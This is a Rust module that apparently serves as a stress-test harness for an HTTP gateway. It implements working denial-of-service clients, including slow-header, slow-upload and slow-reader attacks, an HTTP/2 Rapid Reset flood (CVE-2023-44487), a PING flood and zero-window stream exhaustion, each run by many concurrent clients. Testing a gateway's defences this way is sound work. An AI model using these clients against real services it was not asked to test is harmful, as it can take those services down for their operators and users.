//! Clients that cost a gateway more than they cost themselves: silent, slow, or flooding.
//!
//! None of them expects a response. Each attack lasts a few seconds at most and ends earlier when
//! the gateway closes the connection, which is what it should do.

use std::net::SocketAddr;
use std::time::Duration;

use bytes::Bytes;
use http::Request;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::sync::watch;
use tokio::task::JoinSet;
use tokio::time::{sleep, timeout};

use crate::client::GatewayTarget;

/// Maximum duration of one attack.
const LENGTH: Duration = Duration::from_secs(10);
/// Pause between two attacks of one client.
const PAUSE: Duration = Duration::from_millis(100);
/// Interval between the pieces of a slow client.
const SLOW: Duration = Duration::from_millis(200);
/// Number of streams of one HTTP/2 connection that hold memory.
const STREAMS: usize = 64;
/// Number of frames or streams of one flood.
const FLOOD: usize = 2000;
/// Size in bytes of a response that a client does not read.
const LARGE: usize = 4 << 20;
/// The client connection preface (RFC 9113 §3.4) with an empty SETTINGS frame.
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
/// A PING frame (RFC 9113 §6.7).
const PING: &[u8] = b"\0\0\x08\x06\0\0\0\0\0pingping";

/// A kind of attack.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Attack {
    /// Connects and sends nothing.
    Silence,
    /// Sends a request head byte by byte.
    SlowHead,
    /// Sends a request body in small pieces, and leaves.
    SlowUpload,
    /// Requests a large response and reads almost nothing of it.
    SlowReader,
    /// Resets each HTTP/2 stream at once (CVE-2023-44487).
    RapidReset,
    /// Sends PING frames and reads nothing.
    Pings,
    /// Requests large responses over HTTP/2 with windows that stay closed.
    ClosedWindows,
    /// Sends request bodies on many HTTP/2 streams and never ends them.
    EndlessUploads,
    /// Like [`EndlessUploads`](Self::EndlessUploads), to a host whose authorisation service never
    /// responds.
    UnansweredChecks,
}

/// The hosts that are attacked.
#[derive(Clone, Copy, Debug)]
pub struct Hosts {
    /// A host that its backend serves.
    pub served: &'static str,
    /// A host whose authorisation service accepts connections and never responds.
    pub unanswered: &'static str,
}

impl Attack {
    /// All attacks, each with the number of concurrent clients.
    pub const ALL: [(Self, usize); 9] = [
        (Self::Silence, 200),
        (Self::SlowHead, 50),
        (Self::SlowUpload, 20),
        (Self::SlowReader, 20),
        (Self::RapidReset, 2),
        (Self::Pings, 2),
        (Self::ClosedWindows, 4),
        (Self::EndlessUploads, 4),
        (Self::UnansweredChecks, 40),
    ];

    /// Attacks once. If the gateway closes the connection, it has defended itself, so an error only
    /// ends the attack.
    async fn run(self, address: SocketAddr, hosts: Hosts) {
        let host = hosts.served;
        let attack = async {
            let socket = TcpStream::connect(address).await?;
            socket.set_nodelay(true)?;
            match self {
                Self::Silence => until_closed(socket).await,
                Self::SlowHead => slow_head(socket, host).await,
                Self::SlowUpload => slow_upload(socket, host).await,
                Self::SlowReader => slow_reader(socket, host).await,
                Self::RapidReset => rapid_reset(socket, host).await,
                Self::Pings => pings(socket).await,
                Self::ClosedWindows => closed_windows(socket, host).await,
                Self::EndlessUploads => endless_uploads(socket, host).await,
                Self::UnansweredChecks => endless_uploads(socket, hosts.unanswered).await,
            }
        };
        let _ = timeout(LENGTH, attack).await;
    }
}

/// Repeats every attack until `stop` becomes true. Returns the number of attacks.
pub async fn attack(target: &GatewayTarget, hosts: Hosts, stop: watch::Receiver<bool>) -> u64 {
    let mut clients = JoinSet::new();
    for (attack, count) in Attack::ALL {
        for _ in 0..count {
            clients.spawn(repeat(attack, target.clone(), hosts, stop.clone()));
        }
    }
    let mut made = 0;
    while let Some(client) = clients.join_next().await {
        // A client that panicked made no attack.
        made += client.unwrap_or(0);
    }
    made
}

async fn repeat(attack: Attack, target: GatewayTarget, hosts: Hosts, mut stop: watch::Receiver<bool>) -> u64 {
    let mut made = 0;
    while !*stop.borrow() {
        tokio::select! {
            () = attack.run(target.address(), hosts) => made += 1,
            _ = stop.wait_for(|stop| *stop) => break,
        }
        sleep(PAUSE).await;
    }
    made
}

async fn until_closed(mut socket: TcpStream) -> anyhow::Result<()> {
    let mut rest = [0; 4096];
    while socket.read(&mut rest).await? > 0 {}
    Ok(())
}

async fn slow_head(mut socket: TcpStream, host: &str) -> anyhow::Result<()> {
    let head = format!("GET /?slow HTTP/1.1\r\nHost: {host}\r\nUser-Agent: slow\r\n\r\n");
    for byte in head.bytes() {
        socket.write_all(&[byte]).await?;
        sleep(SLOW).await;
    }
    Ok(())
}

async fn slow_upload(mut socket: TcpStream, host: &str) -> anyhow::Result<()> {
    let head = format!("POST /upload HTTP/1.1\r\nHost: {host}\r\nContent-Length: {LARGE}\r\n\r\n");
    socket.write_all(head.as_bytes()).await?;
    loop {
        socket.write_all(&[b'x'; 16 << 10]).await?;
        sleep(SLOW).await;
    }
}

async fn slow_reader(mut socket: TcpStream, host: &str) -> anyhow::Result<()> {
    let head = format!("GET /?bytes={LARGE} HTTP/1.1\r\nHost: {host}\r\n\r\n");
    socket.write_all(head.as_bytes()).await?;
    let mut piece = [0; 1024];
    while socket.read(&mut piece).await? > 0 {
        sleep(SLOW).await;
    }
    Ok(())
}

async fn pings(mut socket: TcpStream) -> anyhow::Result<()> {
    socket.write_all(PREFACE).await?;
    for _ in 0..FLOOD {
        socket.write_all(PING).await?;
    }
    Ok(())
}

/// An HTTP/2 connection of a client that never opens a window.
async fn connect(socket: TcpStream) -> anyhow::Result<h2::client::SendRequest<Bytes>> {
    let (requests, connection) = h2::client::Builder::new().initial_window_size(0).handshake(socket).await?;
    tokio::spawn(async move {
        // The gateway ends most of these connections with an error.
        let _ = connection.await;
    });
    Ok(requests)
}

fn request(method: &str, host: &str, target: &str) -> anyhow::Result<Request<()>> {
    Ok(Request::builder().method(method).uri(format!("http://{host}{target}")).body(())?)
}

async fn rapid_reset(socket: TcpStream, host: &str) -> anyhow::Result<()> {
    let mut requests = connect(socket).await?;
    for _ in 0..FLOOD {
        requests = requests.ready().await?;
        let (response, mut stream) = requests.send_request(request("POST", host, "/")?, false)?;
        stream.send_reset(h2::Reason::CANCEL);
        drop(response);
    }
    Ok(())
}

async fn closed_windows(socket: TcpStream, host: &str) -> anyhow::Result<()> {
    let mut requests = connect(socket).await?;
    let mut responses = Vec::with_capacity(STREAMS);
    for _ in 0..STREAMS {
        requests = requests.ready().await?;
        let target = format!("/?bytes={LARGE}");
        responses.push(requests.send_request(request("GET", host, &target)?, true)?);
    }
    sleep(LENGTH).await;
    Ok(())
}

async fn endless_uploads(socket: TcpStream, host: &str) -> anyhow::Result<()> {
    let mut requests = connect(socket).await?;
    let mut streams = Vec::with_capacity(STREAMS);
    for _ in 0..STREAMS {
        requests = requests.ready().await?;
        let (response, mut stream) = requests.send_request(request("POST", host, "/upload")?, false)?;
        stream.send_data(Bytes::from_static(&[b'x'; 64 << 10]), false)?;
        streams.push((response, stream));
    }
    sleep(LENGTH).await;
    Ok(())
}
